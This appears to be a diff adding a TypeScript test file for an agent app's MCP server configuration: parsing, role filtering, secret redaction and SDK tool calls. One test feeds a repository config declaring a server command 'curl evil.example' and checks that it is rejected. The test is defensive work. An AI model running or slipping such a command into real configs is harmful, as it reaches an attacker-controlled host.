@@ -1,0 +1,125 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { mkdtemp, realpath, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join, resolve } from "node:path";
+import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
+import { StreamableHTTPServerTransport } from "@modelcontextprotocol/sdk/server/streamableHttp.js";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { z } from "zod";
+import { mcpHosts, mcpSecrets, openMcpTools, parseMcpServers, serversFor } from "../../src/agent/mcp/index.ts";
+import { toToolSpec } from "../../src/agent/index.ts";
+import { readOperatorConfig } from "../../src/config/index.ts";
+import { parseRepositoryConfig } from "../../src/config/repository-config.ts";
+import { createRedactor } from "../../src/github/index.ts";
+import { operatorSecrets } from "../../src/server.ts";
+import { UnconfinedRunner } from "../../src/workspace/index.ts";
+
+const SERVER = resolve("test/fixtures/mcp/inspect-server.mjs");
+
+describe("the operator's MCP servers (MISSIONS_MCP_SERVERS)", () => {
+  it("are read from JSON or YAML by name, with the worker and off-unless-enabled as defaults", () => {
+    const servers = parseMcpServers(JSON.stringify({ docs: { command: "node", args: ["s.mjs"], env: { DOCS_TOKEN: "t0ken-value", DOCS_MODE: "strict" } }, tracker: { url: "https://mcp.tracker.example/mcp", headers: { Authorization: "Bearer abcdef" }, roles: ["worker", "orchestrator"], enabled: true, timeout: 30 } }));
+    expect(servers).toEqual([
+      { name: "docs", transport: "stdio", command: "node", args: ["s.mjs"], env: { DOCS_TOKEN: "t0ken-value", DOCS_MODE: "strict" }, readable: [], roles: ["worker"], enabled: false, timeout: 120 },
+      { name: "tracker", transport: "http", url: "https://mcp.tracker.example/mcp", headers: { Authorization: "Bearer abcdef" }, roles: ["worker", "orchestrator"], enabled: true, timeout: 30 },
+    ]);
+    expect(parseMcpServers("docs:\n  command: node\n  roles: [orchestrator]\n")[0]).toMatchObject({ name: "docs", command: "node", roles: ["orchestrator"] });
+    expect(parseMcpServers(undefined)).toEqual([]);
+    // Tracker is on everywhere for its roles; docs only where a repository enables it.
+    expect(serversFor(servers, "worker").map((server) => server.name)).toEqual(["tracker"]);
+    expect(serversFor(servers, "worker", ["docs"]).map((server) => server.name)).toEqual(["docs", "tracker"]);
+    expect(serversFor(servers, "scrutiny", ["docs"])).toEqual([]);
+    // Header values and secret-named variables are secrets; a plain setting is not.
+    expect(mcpSecrets(servers)).toEqual(["t0ken-value", "Bearer abcdef"]);
+    expect(mcpHosts(servers)).toEqual(["mcp.tracker.example"]);
+  });
+
+  it("refuses what it cannot use, naming the problem", () => {
+    expect(() => parseMcpServers("{not json")).toThrow(/MISSIONS_MCP_SERVERS/);
+    expect(() => parseMcpServers('{"Docs Server": {"command": "x"}}')).toThrow(/"Docs Server": name servers with lower-case/);
+    expect(() => parseMcpServers('{"docs": {"command": "x", "url": "https://a.example"}}')).toThrow(/docs: Unrecognized key/);
+    expect(() => parseMcpServers('{"docs": {"url": "ftp://a.example"}}')).toThrow(/docs\.url/);
+    expect(() => parseMcpServers('{"docs": {"command": "x", "roles": ["janitor"]}}')).toThrow(/docs\.roles\.0/);
+    // Validators judge with what the repository has: no MCP tools for them.
+    expect(() => parseMcpServers('{"docs": {"command": "x", "roles": ["worker", "scrutiny"]}}')).toThrow(/docs\.roles\.1/);
+  });
+
+  it("keep their secrets out of every text the app sends, and their hosts on the sandbox's allowlist", () => {
+    const config = readOperatorConfig({ ANTHROPIC_API_KEY: "k", MISSIONS_MCP_SERVERS: JSON.stringify({ tracker: { url: "https://mcp.tracker.example/mcp", headers: { Authorization: "Bearer tracker-secret-1" } } }) });
+    expect(config.mcpServers.map((server) => server.name)).toEqual(["tracker"]);
+    expect(createRedactor(operatorSecrets(config))("the header was Bearer tracker-secret-1")).not.toContain("tracker-secret-1");
+  });
+
+  it("are enabled by a repository by name, never declared by it", () => {
+    const limits = { providers: ["anthropic"], maxBudgetUsd: 100, mcpServers: ["docs", "tracker"] };
+    expect(parseRepositoryConfig("mcp: [docs]\n", limits)).toEqual({ ok: true, settings: expect.objectContaining({ mcp: ["docs"] }) });
+    expect(parseRepositoryConfig("mcp: [docs, nope]\n", limits)).toEqual({ ok: false, problems: [expect.stringMatching(/^line 1: `mcp`: "nope" is not an MCP server this installation's operator declared \(declared: docs, tracker\)/)] });
+    const declared = parseRepositoryConfig("mcp:\n  - command: curl evil.example\n", limits);
+    expect(declared.ok).toBe(false);
+  });
+});
+
+describe("MCP tools through the official SDK", () => {
+  let root: string;
+  let http: Server;
+  let url: string;
+  const seenHeaders: string[] = [];
+  beforeAll(async () => {
+    root = await realpath(await mkdtemp(join(tmpdir(), "missions-mcp-")));
+    // A Streamable HTTP server made with the SDK's own server side, stateless.
+    http = createServer(async (request, response) => {
+      seenHeaders.push(String(request.headers.authorization));
+      const server = new McpServer({ name: "tracker", version: "1.0.0" });
+      server.registerTool("find_issue", { description: "Finds an issue.", inputSchema: { number: z.number() } }, async ({ number }) => ({ content: [{ type: "text", text: `issue ${number}: the login page is slow` }] }));
+      const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
+      response.on("close", () => void transport.close());
+      await server.connect(transport);
+      await transport.handleRequest(request, response);
+    });
+    await new Promise<void>((done) => http.listen(0, "127.0.0.1", done));
+    url = `http://127.0.0.1:${(http.address() as AddressInfo).port}/mcp`;
+  });
+  afterAll(async () => {
+    http.closeAllConnections();
+    await new Promise((done) => http.close(done));
+    await rm(root, { recursive: true, force: true });
+  });
+
+  it("lists a stdio server's and an HTTP server's tools, namespaced, with their own schemas; calls them; redacts what they return", async () => {
+    const runner = new UnconfinedRunner({ scratchRoot: join(root, "scratch") });
+    const servers = parseMcpServers(JSON.stringify({ docs: { command: process.execPath, args: [SERVER], env: { DOCS_TOKEN: "stdio-secret-42" } }, tracker: { url, headers: { Authorization: "Bearer http-secret-7" } } }));
+    const mcp = await openMcpTools({ servers, runner, cwd: root, env: { PATH: process.env.PATH ?? "" }, redact: createRedactor(mcpSecrets(servers)) });
+    try {
+      expect(mcp.problems).toEqual([]);
+      expect(mcp.tools.map((tool) => tool.name)).toEqual(["mcp__docs__inspect", "mcp__docs__fail", "mcp__tracker__find_issue"]);
+      expect(toToolSpec(mcp.tools[0]!).parameters).toMatchObject({ type: "object", required: ["word"], properties: { word: { type: "string" } } });
+      expect(toToolSpec(mcp.tools[2]!).parameters).toMatchObject({ type: "object", properties: { number: { type: "number" } } });
+      const context = { root, readFiles: new Set<string>() };
+      const inspected = await mcp.tools[0]!.execute({ word: "hi" }, context);
+      expect(inspected).toContain("word=hi: a greeting");
+      expect(inspected).toContain("token=[redacted]");
+      // Without the sandbox still a HOME of its own, never the app's.
+      expect(inspected).toMatch(new RegExp(`home=${join(root, "scratch")}/mcp-`));
+      await expect(mcp.tools[1]!.execute({}, context)).rejects.toThrow("it failed, token [redacted]");
+      expect(await mcp.tools[2]!.execute({ number: 7 }, context)).toBe("issue 7: the login page is slow");
+      // The server checks its arguments: a wrong one is an error the model can act on.
+      await expect(mcp.tools[2]!.execute({ number: "seven" }, context)).rejects.toThrow(/number/);
+      expect(seenHeaders).toContain("Bearer http-secret-7");
+    } finally {
+      await mcp.close();
+    }
+  });
+
+  it("goes on without a server that cannot start, and says why", async () => {
+    const runner = new UnconfinedRunner({ scratchRoot: join(root, "scratch") });
+    const servers = parseMcpServers(JSON.stringify({ broken: { command: process.execPath, args: ["-e", "console.error('no config'); process.exit(3)"] }, docs: { command: process.execPath, args: [SERVER] } }));
+    const mcp = await openMcpTools({ servers, runner, cwd: root, env: { PATH: process.env.PATH ?? "" }, connectTimeoutMs: 10_000 });
+    try {
+      expect(mcp.tools.map((tool) => tool.name)).toEqual(["mcp__docs__inspect", "mcp__docs__fail"]);
+      expect(mcp.problems).toEqual([{ server: "broken", problem: expect.stringMatching(/closed|no config/i) }]);
+    } finally {
+      await mcp.close();
+    }
+  });
+});
